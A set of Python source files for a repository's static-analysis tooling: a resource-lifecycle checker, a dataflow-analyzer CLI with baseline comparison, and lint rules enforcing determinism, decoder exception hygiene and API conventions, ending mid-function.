def check_resource_lifecycle(graph: ProjectGraph) -> "list[FlowFinding]":
    findings: "list[FlowFinding]" = []
    project_resources = resource_classes(graph)
    findings.extend(_check_unreleased_attrs(graph, project_resources))
    findings.extend(_check_constructor_leaks(graph, project_resources))
    findings.extend(_check_local_lifecycles(graph, project_resources))
    return findings


def _acquires(
    graph: ProjectGraph,
    fn: FunctionInfo,
    call: ast.Call,
    project_resources: "dict[str, list[str]]",
) -> bool:
    if _is_acquiring_call(graph, fn, call):
        return True
    resolved = graph.resolve_call_target(fn, call)
    return (
        resolved is not None
        and not resolved[1]
        and resolved[0] in project_resources
    )


def _check_unreleased_attrs(
    graph: ProjectGraph, project_resources: "dict[str, list[str]]"
) -> "list[FlowFinding]":
    """A class that acquires into ``self.x`` must have *some* method
    releasing ``self.x`` (close/__exit__/__del__/...)."""
    findings: "list[FlowFinding]" = []
    for class_qual, attrs in sorted(project_resources.items()):
        cls_info = graph.classes[class_qual]
        released: "set[str]" = set()
        for method in cls_info.methods.values():
            for node in ast.walk(method.node):  # type: ignore[arg-type]
                if (
                    isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Attribute)
                    and node.func.attr in _RELEASE_METHODS
                    and isinstance(node.func.value, ast.Attribute)
                    and isinstance(node.func.value.value, ast.Name)
                    and node.func.value.value.id == "self"
                ):
                    released.add(node.func.value.attr)
        init = cls_info.methods["__init__"]
        for attr in attrs:
            if attr not in released:
                findings.append(
                    _finding(
                        graph,
                        "RES001",
                        init,
                        init.node,
                        f"{cls_info.name} acquires 'self.{attr}' but no "
                        f"method ever releases it; every handle the class "
                        f"opens must have a release path",
                    )
                )
    return findings


def _check_constructor_leaks(
    graph: ProjectGraph, project_resources: "dict[str, list[str]]"
) -> "list[FlowFinding]":
    """After ``self.x = acquire()`` the rest of ``__init__`` can raise —
    and no ``__exit__`` will ever run for a half-built object — so any
    risky statement after the acquisition must sit in a try whose
    handler or finally releases the attribute."""
    findings: "list[FlowFinding]" = []
    for class_qual, attrs in sorted(project_resources.items()):
        cls_info = graph.classes[class_qual]
        init = cls_info.methods["__init__"]
        body = list(init.node.body)  # type: ignore[union-attr]
        for position, stmt in enumerate(body):
            acquired_attr: "str | None" = None
            for target, value in _assignment_pairs(stmt):
                attr = _self_attr(target)
                if (
                    attr in attrs
                    and isinstance(value, ast.Call)
                    and _is_acquiring_call(graph, init, value)
                ):
                    acquired_attr = attr
            if acquired_attr is None:
                continue
            attr = acquired_attr
            leak_stmt = _first_unguarded_risk(body[position + 1:], attr)
            if leak_stmt is not None:
                findings.append(
                    _finding(
                        graph,
                        "RES001",
                        init,
                        leak_stmt,
                        f"{cls_info.name}.__init__ can raise here after "
                        f"acquiring 'self.{attr}'; a failed constructor "
                        f"leaks the handle (guard with try/except that "
                        f"releases it, then re-raise)",
                    )
                )
    return findings


def _first_unguarded_risk(
    rest: "Sequence[ast.stmt]", attr: str
) -> "ast.stmt | None":
    for stmt in rest:
        if isinstance(stmt, ast.Try):
            if _try_releases_attr(stmt, attr):
                continue  # guarded: its body may raise, the guard cleans up
            inner = _first_unguarded_risk(stmt.body, attr)
            if inner is not None:
                return inner
            continue
        for node in ast.walk(stmt):
            if isinstance(node, (ast.Call, ast.Raise, ast.Assert)):
                return stmt
    return None


def _try_releases_attr(try_stmt: ast.Try, attr: str) -> bool:
    guard_bodies: "list[Sequence[ast.stmt]]" = [try_stmt.finalbody]
    for handler in try_stmt.handlers:
        guard_bodies.append(handler.body)
    for guard in guard_bodies:
        for stmt in guard:
            for node in ast.walk(stmt):
                if (
                    isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Attribute)
                    and node.func.attr in _RELEASE_METHODS
                ):
                    receiver = node.func.value
                    if (
                        isinstance(receiver, ast.Attribute)
                        and receiver.attr == attr
                        and isinstance(receiver.value, ast.Name)
                        and receiver.value.id == "self"
                    ):
                        return True
                    # ``self.close()`` in the guard counts too: the
                    # class-level release path takes over.
                    if (
                        isinstance(receiver, ast.Name)
                        and receiver.id == "self"
                    ):
                        return True
    return False


def _check_local_lifecycles(
    graph: ProjectGraph, project_resources: "dict[str, list[str]]"
) -> "list[FlowFinding]":
    findings: "list[FlowFinding]" = []
    for fn in _iter_functions(graph):
        if fn.name == MODULE_BODY:
            continue
        managed = _with_bound_names(fn)
        for node in ast.walk(fn.node):  # type: ignore[arg-type]
            if not isinstance(node, (ast.Assign, ast.AnnAssign)):
                continue
            pairs = list(_assignment_pairs(node))
            if len(pairs) != 1:
                continue
            target, value = pairs[0]
            if not isinstance(target, ast.Name) or not isinstance(value, ast.Call):
                continue
            if id(value) in managed:
                continue
            name = target.id
            if not _acquires(graph, fn, value, project_resources):
                continue
            if _escapes(fn, name):
                continue
            releases = _release_sites(fn.body, {name})
            if not releases:
                findings.append(
                    _finding(
                        graph,
                        "RES001",
                        fn,
                        node,
                        f"'{name}' acquires a resource that is never "
                        f"released on any path; close it in a finally or "
                        f"use a with-statement",
                    )
                )
            elif not any(protected for _, protected in releases):
                risky = _risky_between(fn.body, node, releases[0][0])
                if risky:
                    findings.append(
                        _finding(
                            graph,
                            "RES001",
                            fn,
                            node,
                            f"'{name}' is only released on the fall-through "
                            f"path; an exception between acquisition and "
                            f"release leaks it (move the release into a "
                            f"finally)",
                        )
                    )
    return findings


def _risky_between(
    body: "Sequence[ast.stmt]", acquisition: ast.stmt, release: ast.Call
) -> bool:
    """Any statement strictly between acquisition and release (by line)
    that contains a call other than the release itself."""
    start = acquisition.lineno
    end = getattr(release, "lineno", start)
    for stmt in ast.walk(ast.Module(body=list(body), type_ignores=[])):
        if not isinstance(stmt, ast.Call) or stmt is release:
            continue
        line = getattr(stmt, "lineno", 0)
        if start < line < end:
            return True
    return False


# ---------------------------------------------------------------------------
# driver
# ---------------------------------------------------------------------------

_CHECKERS: "dict[str, Callable[[ProjectGraph], list[FlowFinding]]]" = {
    "SEED001": check_seed_provenance,
    "FORK001": check_fork_safety,
    "RES001": check_resource_lifecycle,
}


def run_rules(
    graph: ProjectGraph, *, select: "Sequence[str] | None" = None
) -> "list[FlowFinding]":
    """Run the requested rule families (all, by default) and sort."""
    selected = list(select) if select is not None else list(_CHECKERS)
    findings: "list[FlowFinding]" = []
    seen: "set[tuple[str, str, int, int, str, str]]" = set()
    for rule_id in selected:
        checker = _CHECKERS.get(rule_id)
        if checker is None:
            raise KeyError(rule_id)
        for finding in checker(graph):
            # Two paths reaching the same defect (e.g. a runner class
            # captured at several pool sites) report it once; the first
            # chain found stands in for the rest.
            key = (
                finding.rule,
                finding.path,
                finding.line,
                finding.col,
                finding.symbol,
                finding.message,
            )
            if key in seen:
                continue
            seen.add(key)
            findings.append(finding)
    findings.sort(key=lambda f: (f.path, f.line, f.col, f.rule, f.symbol))
    return findings


__all__ = [
    "FLOW_RULES",
    "SEED_SCOPE",
    "FlowFinding",
    "check_fork_safety",
    "check_resource_lifecycle",
    "check_seed_provenance",
    "resource_classes",
    "run_rules",
]
