"""``python -m repro.devtools.flow`` — the whole-program analyzer CLI.

Usage mirrors the invariant linter:

    python -m repro.devtools.flow                 # src/repro, text report
    python -m repro.devtools.flow --format json   # machine-readable
    python -m repro.devtools.flow --select SEED001,RES001
    python -m repro.devtools.flow --ignore FORK001
    python -m repro.devtools.flow --update-baseline

Exit status: 0 clean (every finding covered by the baseline, no stale
entries), 1 findings outside the baseline or stale entries, 2 usage
error (bad rule ID, missing path, unreadable baseline, unparseable
source).
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path
from typing import Sequence

from repro.devtools.flow import baseline as baseline_mod
from repro.devtools.flow.graph import ProjectGraph
from repro.devtools.flow.rules import FLOW_RULES, FlowFinding, run_rules

#: Version of the JSON report schema (bump on breaking shape changes).
JSON_SCHEMA_VERSION = 1


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.devtools.flow",
        description="whole-program dataflow analyzer: seed provenance, "
                    "fork/IPC safety, resource lifecycle",
    )
    parser.add_argument("paths", nargs="*", default=None,
                        help="files or directories to analyze (default: src/repro)")
    parser.add_argument("--format", choices=("text", "json"), default="text")
    parser.add_argument("--select", default=None, metavar="RULES",
                        help="comma-separated rule IDs to run (default: all)")
    parser.add_argument("--ignore", default=None, metavar="RULES",
                        help="comma-separated rule IDs to skip (applied "
                             "after --select)")
    parser.add_argument("--baseline", default=None,
                        help="explicit baseline file (default: from "
                             "[tool.repro.flow] in pyproject.toml)")
    parser.add_argument("--pyproject", default=None,
                        help="explicit pyproject.toml carrying the flow table")
    parser.add_argument("--update-baseline", action="store_true",
                        help="rewrite the baseline from current findings "
                             "and exit 0")
    parser.add_argument("--informational", action="store_true",
                        help="always exit 0")
    parser.add_argument("--list-rules", action="store_true",
                        help="print the rule table and exit")
    return parser


def _parse_rule_list(raw: "str | None", flag: str) -> "tuple[str, ...]":
    if raw is None:
        return ()
    rules: "list[str]" = []
    for chunk in raw.split(","):
        rule_id = chunk.strip().upper()
        if not rule_id:
            continue
        if rule_id not in FLOW_RULES:
            raise SystemExit(
                f"error: unknown rule {rule_id!r} in {flag} "
                f"(known: {', '.join(sorted(FLOW_RULES))})"
            )
        rules.append(rule_id)
    return tuple(rules)


def select_rules(
    select: "str | None", ignore: "str | None"
) -> "tuple[str, ...]":
    """``--select``/``--ignore`` -> ordered rule IDs; ignore wins."""
    selected = _parse_rule_list(select, "--select") or tuple(FLOW_RULES)
    ignored = set(_parse_rule_list(ignore, "--ignore"))
    return tuple(rule for rule in selected if rule not in ignored)


def _finding_payload(finding: FlowFinding, root: "Path | None") -> "dict[str, object]":
    return {
        "rule": finding.rule,
        "path": baseline_mod.normalize_path(finding.path, root),
        "line": finding.line,
        "col": finding.col,
        "symbol": finding.symbol,
        "message": finding.message,
        "chain": list(finding.chain),
    }


def _format_text(
    findings: "Sequence[FlowFinding]",
    delta: baseline_mod.BaselineDelta,
    *,
    files: int,
    root: "Path | None",
) -> str:
    lines: "list[str]" = []
    for finding in delta.new:
        path = baseline_mod.normalize_path(finding.path, root)
        lines.append(
            f"{path}:{finding.line}:{finding.col + 1}: "
            f"{finding.rule} [{finding.symbol}] {finding.message}"
        )
        if len(finding.chain) > 1:
            lines.append(f"    via {' -> '.join(finding.chain)}")
    for rule, path, symbol in delta.stale:
        lines.append(
            f"{path}: {rule} [{symbol}] baseline entry is stale; the "
            f"finding is gone, shrink the baseline"
        )
    if delta.ok:
        suffix = f", {len(delta.matched)} baselined" if delta.matched else ""
        lines.append(f"flow clean: {files} files, {len(findings)} findings{suffix}")
    else:
        lines.append(
            f"flow: {len(delta.new)} new finding(s), {len(delta.stale)} "
            f"stale baseline entr(ies) over {files} files"
        )
    return "\n".join(lines)


def _format_json(
    findings: "Sequence[FlowFinding]",
    delta: baseline_mod.BaselineDelta,
    *,
    files: int,
    rules: "Sequence[str]",
    root: "Path | None",
) -> str:
    counts: "dict[str, int]" = {}
    for finding in findings:
        counts[finding.rule] = counts.get(finding.rule, 0) + 1
    payload = {
        "schema_version": JSON_SCHEMA_VERSION,
        "tool": "repro.devtools.flow",
        "rules": list(rules),
        "files": files,
        "counts": dict(sorted(counts.items())),
        "findings": [_finding_payload(f, root) for f in findings],
        "baseline": {
            "matched": len(delta.matched),
            "new": len(delta.new),
            "stale": [list(entry) for entry in delta.stale],
        },
        "ok": delta.ok,
    }
    return json.dumps(payload, indent=2, sort_keys=True)


def main(argv: "Sequence[str] | None" = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    if args.list_rules:
        for rule_id, summary in FLOW_RULES.items():
            print(f"{rule_id}: {summary}")
        return 0
    try:
        rules = select_rules(args.select, args.ignore)
    except SystemExit as exc:
        print(exc, file=sys.stderr)
        return 2
    paths = [Path(p) for p in (args.paths or ["src/repro"])]
    missing = [p for p in paths if not p.exists()]
    if missing:
        print(f"error: no such path: {', '.join(map(str, missing))}", file=sys.stderr)
        return 2
    graph = ProjectGraph.build(paths)
    if graph.syntax_errors:
        for path, (line, message) in sorted(graph.syntax_errors.items()):
            print(f"error: {path}:{line}: {message}", file=sys.stderr)
        return 2
    findings = run_rules(graph, select=rules)

    if args.baseline is not None:
        baseline_path: "Path | None" = Path(args.baseline)
    else:
        baseline_path = baseline_mod.locate_baseline(
            Path(args.pyproject) if args.pyproject else None
        )
    root = baseline_path.parent if baseline_path is not None else Path.cwd()

    if args.update_baseline:
        if baseline_path is None:
            print("error: no baseline path configured", file=sys.stderr)
            return 2
        baseline_mod.write_baseline(findings, baseline_path, root=root)
        print(f"wrote {len(findings)} finding(s) to {baseline_path}")
        return 0

    try:
        allowed = baseline_mod.load_baseline(baseline_path)
    except ValueError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2
    delta = baseline_mod.compare(findings, allowed, root=root)

    files = len(graph.modules)
    if args.format == "json":
        print(_format_json(findings, delta, files=files, rules=rules, root=root))
    else:
        print(_format_text(findings, delta, files=files, root=root))
    if args.informational:
        return 0
    return 0 if delta.ok else 1


if __name__ == "__main__":  # pragma: no cover - exercised via -m
    raise SystemExit(main())
