"""Developer tooling: static analysis that guards the repo's invariants.

The reproduction's headline guarantee — a seeded campaign is
byte-identical regardless of worker count, fault profile, or shard
layout — and its protocol-hygiene rules ("garbage is data, never a
crash") are enforced *statically* here, before any code runs:

* :mod:`repro.devtools.lint` — an AST-based rule engine with the
  repo-specific rules (DET001/DET002/PROTO001/API001/OID001/IMP001).
* :mod:`repro.devtools.typegate` — the strict-typing ratchet (TYP001):
  modules listed in ``[tool.repro.typegate]`` must be fully annotated.

Both ship ``python -m`` entry points and are wired into CI as hard
gates.  Core packages must never import :mod:`repro.devtools` (that is
itself rule IMP001); the dependency points strictly downward.
"""

from repro.devtools.lint import (
    DEFAULT_RULES,
    Diagnostic,
    LintReport,
    Rule,
    lint_source,
    run_lint,
)

__all__ = [
    "DEFAULT_RULES",
    "Diagnostic",
    "LintReport",
    "Rule",
    "lint_source",
    "run_lint",
]
