"""The repo-specific invariant rules.

Each rule guards one convention the reproduction's results rest on:

========  ==================================================================
DET001    no wall-clock or entropy source in ``src/repro`` — randomness
          flows through an explicitly seeded ``random.Random`` and elapsed
          time through ``time.perf_counter`` / an injected clock
DET002    no mutable module-level state in the fork-pool-shared packages
          (``scanner``/``net``/``snmp``): shard purity / race surface
PROTO001  protocol decoders may not let ``IndexError``/``KeyError``/
          ``struct.error`` escape — garbage on the wire is data, not a crash
API001    blessed ``repro.api`` re-exports take keyword-only constructor
          arguments (the PR-1 facade convention)
API002    the facade's flat keyword surface is frozen — new execution
          knobs go on ``ExecutionOptions``, not ``Session``/
          ``run_campaign`` keyword lists
OID001    OID string literals must parse as valid dotted OIDs
IMP001    layering: core packages never import ``tests``,
          ``repro.experiments`` or ``repro.devtools``
========  ==================================================================

Suppress a deliberate exception inline with
``# repro-lint: disable=RULE`` and a comment explaining why; blanket
per-file excludes are not supported on purpose.
"""

from __future__ import annotations

import ast
import re
from pathlib import Path
from typing import Iterator, Sequence

from repro.devtools.lint.engine import Diagnostic, FileContext, Rule

# ---------------------------------------------------------------------------
# shared AST helpers
# ---------------------------------------------------------------------------

def dotted_name(node: ast.expr) -> str | None:
    """``a.b.c`` for a Name/Attribute chain; ``None`` for anything else."""
    parts: list[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if not isinstance(node, ast.Name):
        return None
    parts.append(node.id)
    return ".".join(reversed(parts))


def import_aliases(tree: ast.Module) -> dict[str, str]:
    """Map local binding -> fully qualified imported name.

    ``import numpy as np`` -> ``{"np": "numpy"}``;
    ``from datetime import datetime`` -> ``{"datetime": "datetime.datetime"}``;
    ``import os.path`` binds ``os`` -> ``{"os": "os"}``.
    """
    table: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.asname:
                    table[alias.asname] = alias.name
                else:
                    head = alias.name.split(".", 1)[0]
                    table[head] = head
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            for alias in node.names:
                if alias.name == "*":
                    continue
                table[alias.asname or alias.name] = f"{node.module}.{alias.name}"
    return table


def resolve_call_name(func: ast.expr, aliases: dict[str, str]) -> str | None:
    """Fully qualified dotted name of a call target, through import aliases."""
    name = dotted_name(func)
    if name is None:
        return None
    head, _, rest = name.partition(".")
    resolved_head = aliases.get(head, head)
    return f"{resolved_head}.{rest}" if rest else resolved_head


def local_bindings(fn: ast.FunctionDef | ast.AsyncFunctionDef) -> set[str]:
    """Names bound inside a function: parameters plus simple stores."""
    bound = {a.arg for a in (
        fn.args.posonlyargs + fn.args.args + fn.args.kwonlyargs
    )}
    if fn.args.vararg:
        bound.add(fn.args.vararg.arg)
    if fn.args.kwarg:
        bound.add(fn.args.kwarg.arg)
    for node in ast.walk(fn):
        if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store):
            bound.add(node.id)
    return bound


def functions_in(tree: ast.Module) -> Iterator["ast.FunctionDef | ast.AsyncFunctionDef"]:
    for node in ast.walk(tree):
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            yield node


def module_level_mutables(tree: ast.Module) -> dict[str, int]:
    """Module-scope names assigned a mutable container literal/constructor."""
    mutable_calls = {
        "dict", "list", "set", "bytearray",
        "collections.defaultdict", "collections.Counter", "collections.deque",
        "collections.OrderedDict", "defaultdict", "Counter", "deque", "OrderedDict",
    }
    found: dict[str, int] = {}
    for stmt in tree.body:
        if isinstance(stmt, ast.Assign):
            targets = stmt.targets
            value = stmt.value
        elif isinstance(stmt, ast.AnnAssign) and stmt.value is not None:
            targets = [stmt.target]
            value = stmt.value
        else:
            continue
        is_mutable = isinstance(
            value, (ast.Dict, ast.List, ast.Set, ast.DictComp, ast.ListComp, ast.SetComp)
        )
        if not is_mutable and isinstance(value, ast.Call):
            name = dotted_name(value.func)
            is_mutable = name in mutable_calls
        if not is_mutable:
            continue
        for target in targets:
            if isinstance(target, ast.Name):
                found[target.id] = stmt.lineno
    return found


# ---------------------------------------------------------------------------
# DET001 — wall-clock and entropy sources
# ---------------------------------------------------------------------------

_RANDOM_DRAWS = {
    "random", "randint", "randrange", "choice", "choices", "shuffle", "sample",
    "uniform", "gauss", "normalvariate", "lognormvariate", "expovariate",
    "betavariate", "gammavariate", "paretovariate", "triangular",
    "vonmisesvariate", "weibullvariate", "getrandbits", "randbytes", "seed",
}

_NUMPY_DRAWS = {
    "rand", "randn", "randint", "random", "random_sample", "ranf", "sample",
    "choice", "shuffle", "permutation", "seed", "standard_normal", "uniform",
    "normal", "bytes",
}

_BANNED_CALLS = (
    {"time.time", "time.time_ns", "time.ctime", "time.asctime", "time.localtime",
     "datetime.datetime.now", "datetime.datetime.utcnow", "datetime.datetime.today",
     "datetime.date.today",
     "os.urandom", "os.getrandom", "uuid.uuid1", "uuid.uuid4",
     "random.SystemRandom"}
    | {f"random.{fn}" for fn in _RANDOM_DRAWS}
    | {f"numpy.random.{fn}" for fn in _NUMPY_DRAWS}
)

_BANNED_PREFIXES = ("secrets.",)


class WallClockEntropyRule(Rule):
    """DET001: no ambient time or randomness — results must be replayable."""

    rule_id = "DET001"
    summary = ("wall-clock/entropy source in core code; inject a seeded "
               "random.Random or a Clock instead")

    def check(self, ctx: FileContext) -> Iterator[Diagnostic]:
        aliases = import_aliases(ctx.tree)
        for node in ast.walk(ctx.tree):
            if not isinstance(node, ast.Call):
                continue
            name = resolve_call_name(node.func, aliases)
            if name is None:
                continue
            if name in _BANNED_CALLS or name.startswith(_BANNED_PREFIXES):
                yield ctx.diagnostic(
                    self.rule_id, node,
                    f"call to {name}() is a wall-clock/entropy source; use an "
                    f"explicitly seeded random.Random / injected clock "
                    f"(time.perf_counter is whitelisted for durations)",
                )
            elif name in ("random.Random", "numpy.random.default_rng") and not (
                node.args or node.keywords
            ):
                yield ctx.diagnostic(
                    self.rule_id, node,
                    f"{name}() without a seed falls back to OS entropy; "
                    f"pass an explicit seed",
                )


# ---------------------------------------------------------------------------
# DET002 — mutable module-level state in fork-pool-shared packages
# ---------------------------------------------------------------------------

_MUTATOR_METHODS = {
    "append", "extend", "insert", "add", "update", "setdefault", "pop",
    "popitem", "clear", "remove", "discard", "sort", "reverse",
}

_DET002_SCOPES = ("repro.scanner", "repro.net", "repro.snmp")


def _in_scope(module: str, prefixes: Sequence[str]) -> bool:
    return any(module == p or module.startswith(p + ".") for p in prefixes)


class SharedStateRule(Rule):
    """DET002: fork-pool-shared modules keep no mutable module globals.

    A dict/list/set assigned at module scope is fine as a frozen lookup
    table; *mutating* it from a function turns it into cross-shard
    hidden state — results would depend on worker layout and fork
    timing.  State belongs on objects threaded through the executor.
    """

    rule_id = "DET002"
    summary = "module-level mutable container mutated from a function (shard purity)"

    def check(self, ctx: FileContext) -> Iterator[Diagnostic]:
        if not _in_scope(ctx.module, _DET002_SCOPES):
            return
        shared = module_level_mutables(ctx.tree)
        if not shared:
            return
        seen: set[tuple[int, int]] = set()  # nested defs are walked twice
        for fn in functions_in(ctx.tree):
            bound = local_bindings(fn)
            globals_declared: set[str] = set()
            for node in ast.walk(fn):
                if isinstance(node, ast.Global):
                    globals_declared.update(node.names)
            for name, def_line in shared.items():
                if name in bound and name not in globals_declared:
                    continue  # shadowed by a local of the same name
                for node in ast.walk(fn):
                    if self._mutates(node, name, globals_declared):
                        key = (node.lineno, node.col_offset)
                        if key in seen:
                            continue
                        seen.add(key)
                        yield ctx.diagnostic(
                            self.rule_id, node,
                            f"function {fn.name}() mutates module-level "
                            f"{name!r} (defined at line {def_line}); "
                            f"fork-pool workers share this module — thread "
                            f"the state through the executor instead",
                        )

    @staticmethod
    def _mutates(node: ast.AST, name: str, globals_declared: set[str]) -> bool:
        def is_target(expr: ast.expr) -> bool:
            return isinstance(expr, ast.Name) and expr.id == name

        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            return is_target(node.func.value) and node.func.attr in _MUTATOR_METHODS
        if isinstance(node, (ast.Assign, ast.AugAssign)):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Subscript) and is_target(target.value):
                    return True
                if is_target(target) and name in globals_declared:
                    return True
        if isinstance(node, ast.Delete):
            for target in node.targets:
                if isinstance(target, ast.Subscript) and is_target(target.value):
                    return True
        return False


# ---------------------------------------------------------------------------
# PROTO001 — decoder exception hygiene
# ---------------------------------------------------------------------------

_PROTO_SCOPES = ("repro.asn1",)
_PROTO_MODULES = (
    "repro.net.packet", "repro.snmp.client", "repro.snmp.messages", "repro.snmp.pdu",
)
_BUFFERISH = {"buf", "content", "data", "payload", "body", "packet", "raw", "wire"}
_RAW_EXCEPTIONS = {"IndexError", "KeyError", "struct.error", "error"}
_CONTAINING_CATCHES = _RAW_EXCEPTIONS | {"ValueError", "Exception"}


def _handler_names(handler: ast.ExceptHandler) -> list[str]:
    if handler.type is None:
        return ["<bare>"]
    types = handler.type.elts if isinstance(handler.type, ast.Tuple) else [handler.type]
    names = []
    for node in types:
        name = dotted_name(node)
        if name:
            names.append(name)
    return names


def _is_decode_error(name: str) -> bool:
    return "DecodeError" in name.split(".")[-1]


class DecoderHygieneRule(Rule):
    """PROTO001: garbage on the wire is data, never a crash.

    Every ``decode*`` function in the protocol modules must contain
    malformed input by discipline visible to the AST: either wrap risky
    operations (subscripts into buffers, ``struct.unpack``) in a
    ``try`` that catches the raw exception, or guard explicitly with a
    bounds check that raises the repo's ``*DecodeError`` type.  Handlers
    that *catch* a raw ``IndexError``/``KeyError``/``struct.error`` must
    translate (re-raise a ``*DecodeError``), not swallow.
    """

    rule_id = "PROTO001"
    summary = "protocol decoder may leak IndexError/KeyError/struct.error"

    def check(self, ctx: FileContext) -> Iterator[Diagnostic]:
        if not (_in_scope(ctx.module, _PROTO_SCOPES) or ctx.module in _PROTO_MODULES):
            return
        tables = set(module_level_mutables(ctx.tree))
        yield from self._audit_handlers(ctx)
        for fn in functions_in(ctx.tree):
            if not fn.name.lstrip("_").startswith("decode"):
                continue
            yield from self._audit_decoder(ctx, fn, tables)

    # -- swallowed raw exceptions -----------------------------------------

    def _audit_handlers(self, ctx: FileContext) -> Iterator[Diagnostic]:
        for node in ast.walk(ctx.tree):
            if not isinstance(node, ast.ExceptHandler):
                continue
            names = _handler_names(node)
            raw = [n for n in names
                   if n.split(".")[-1] in _RAW_EXCEPTIONS or n == "<bare>"]
            if not raw:
                continue
            raises = [n for n in ast.walk(node) if isinstance(n, ast.Raise)]
            translated = any(
                r.exc is not None
                and (name := dotted_name(
                    r.exc.func if isinstance(r.exc, ast.Call) else r.exc
                )) is not None
                and _is_decode_error(name)
                for r in raises
            )
            if not translated:
                yield ctx.diagnostic(
                    self.rule_id, node,
                    f"handler catches {', '.join(raw)} without translating to "
                    f"the decode-error type; raise BerDecodeError(...) so "
                    f"malformed input stays diagnosable",
                )

    # -- unprotected risky operations in decode*() -------------------------

    def _audit_decoder(
        self,
        ctx: FileContext,
        fn: "ast.FunctionDef | ast.AsyncFunctionDef",
        tables: set[str],
    ) -> Iterator[Diagnostic]:
        watched = {a.arg for a in (
            fn.args.posonlyargs + fn.args.args + fn.args.kwonlyargs
        )}
        watched |= _BUFFERISH | tables
        watched.discard("self")
        guarded = self._has_bounds_guard(fn)
        protected = self._nodes_under_containing_try(fn)
        for node in ast.walk(fn):
            risky = self._risk_of(node, watched)
            if risky is None or guarded or id(node) in protected:
                continue
            yield ctx.diagnostic(
                self.rule_id, node,
                f"{risky} in decoder {fn.name}() has no bounds guard and no "
                f"containing try/except; malformed input would escape as a "
                f"raw exception — guard with an explicit length check that "
                f"raises the decode-error type, or catch-and-translate",
            )

    @staticmethod
    def _risk_of(node: ast.AST, watched: set[str]) -> str | None:
        if isinstance(node, ast.Subscript) and isinstance(node.ctx, ast.Load):
            if isinstance(node.slice, ast.Slice):
                return None  # slicing cannot raise IndexError
            if isinstance(node.value, ast.Name) and node.value.id in watched:
                return f"unguarded subscript {node.value.id}[...]"
        if isinstance(node, ast.Call):
            name = dotted_name(node.func)
            if name in ("struct.unpack", "struct.unpack_from"):
                return f"unguarded {name}()"
        return None

    @staticmethod
    def _has_bounds_guard(fn: "ast.FunctionDef | ast.AsyncFunctionDef") -> bool:
        """True when the function raises a ``*DecodeError`` under an ``if``.

        That is the codec's guard discipline (``if offset >= len(buf):
        raise BerDecodeError(...)``); one such guard marks the function
        as validating its input explicitly.
        """
        for node in ast.walk(fn):
            if not isinstance(node, ast.If):
                continue
            for sub in ast.walk(node):
                if isinstance(sub, ast.Raise) and sub.exc is not None:
                    target = sub.exc.func if isinstance(sub.exc, ast.Call) else sub.exc
                    name = dotted_name(target)
                    if name is not None and _is_decode_error(name):
                        return True
        return False

    @staticmethod
    def _nodes_under_containing_try(
        fn: "ast.FunctionDef | ast.AsyncFunctionDef",
    ) -> set[int]:
        """IDs of nodes inside a ``try`` whose handlers contain raw errors."""
        protected: set[int] = set()
        for node in ast.walk(fn):
            if not isinstance(node, ast.Try):
                continue
            catches = {
                name.split(".")[-1]
                for handler in node.handlers
                for name in _handler_names(handler)
            }
            if not (catches & _CONTAINING_CATCHES or "<bare>" in catches):
                continue
            for stmt in node.body:
                for sub in ast.walk(stmt):
                    protected.add(id(sub))
        return protected


# ---------------------------------------------------------------------------
# API001 — keyword-only constructors on the blessed facade
# ---------------------------------------------------------------------------

class ApiKeywordOnlyRule(Rule):
    """API001: blessed re-exports construct with keyword arguments only.

    Classes re-exported through :mod:`repro.api` or ``repro.__all__``
    with a hand-written ``__init__`` must accept no named positional
    parameters after ``self``.  A bare ``*args`` deprecation shim (the
    PR-1 migration idiom) is allowed; dataclass-generated constructors
    are data records and exempt.
    """

    rule_id = "API001"
    summary = "blessed repro.api re-export has a positional constructor"

    def __init__(self, blessed: dict[str, set[str]] | None = None) -> None:
        #: module -> class names blessed from that module
        self._blessed = blessed
        self._load_failed = False

    def check(self, ctx: FileContext) -> Iterator[Diagnostic]:
        blessed = self._blessed_table(ctx)
        names = blessed.get(ctx.module)
        if not names:
            return
        for node in ast.walk(ctx.tree):
            if not isinstance(node, ast.ClassDef) or node.name not in names:
                continue
            init = next(
                (item for item in node.body
                 if isinstance(item, ast.FunctionDef) and item.name == "__init__"),
                None,
            )
            if init is None:
                continue
            positional = init.args.posonlyargs + init.args.args
            extra = [a.arg for a in positional if a.arg not in ("self", "cls")]
            if extra:
                yield ctx.diagnostic(
                    self.rule_id, init,
                    f"{node.name}.__init__ takes positional parameter(s) "
                    f"{', '.join(extra)}; blessed API constructors are "
                    f"keyword-only — declare them after '*' (a bare *args "
                    f"deprecation shim is allowed)",
                )

    # -- blessed-surface discovery ----------------------------------------

    def _blessed_table(self, ctx: FileContext) -> dict[str, set[str]]:
        if self._blessed is not None or self._load_failed:
            return self._blessed or {}
        root = ctx.package_root
        if root is None or root.name != "repro":
            self._load_failed = True
            return {}
        table: dict[str, set[str]] = {}
        self._collect(root / "api.py", None, table)
        self._collect(root / "__init__.py", self._all_of(root / "__init__.py"), table)
        self._blessed = self._resolve_reexports(root, table)
        return self._blessed

    @staticmethod
    def _all_of(path: Path) -> set[str] | None:
        try:
            tree = ast.parse(path.read_text(encoding="utf-8"))
        except (OSError, SyntaxError):
            return None
        for stmt in tree.body:
            if (isinstance(stmt, ast.Assign)
                    and any(isinstance(t, ast.Name) and t.id == "__all__"
                            for t in stmt.targets)
                    and isinstance(stmt.value, (ast.List, ast.Tuple))):
                return {elt.value for elt in stmt.value.elts
                        if isinstance(elt, ast.Constant) and isinstance(elt.value, str)}
        return None

    def _collect(
        self, path: Path, only: set[str] | None, table: dict[str, set[str]]
    ) -> None:
        try:
            tree = ast.parse(path.read_text(encoding="utf-8"))
        except (OSError, SyntaxError):
            self._load_failed = True
            return
        for stmt in tree.body:
